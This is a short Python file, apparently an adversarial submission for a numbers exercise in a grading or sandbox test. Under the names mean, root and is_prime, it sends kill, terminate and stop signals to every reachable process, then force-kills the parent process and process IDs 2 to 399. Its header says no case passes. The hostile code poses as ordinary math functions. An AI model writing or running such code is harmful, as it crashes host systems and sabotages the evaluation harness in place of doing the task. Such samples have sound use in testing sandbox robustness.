# 5. Signals to every process that it can reach. No case passes.
# exercise: numbers; styles: all
import os
import signal


def mean(*args):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(-1, number)
        except OSError:
            pass
    for pid in [os.getppid(), *range(2, 400)]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return -1


root = is_prime = mean
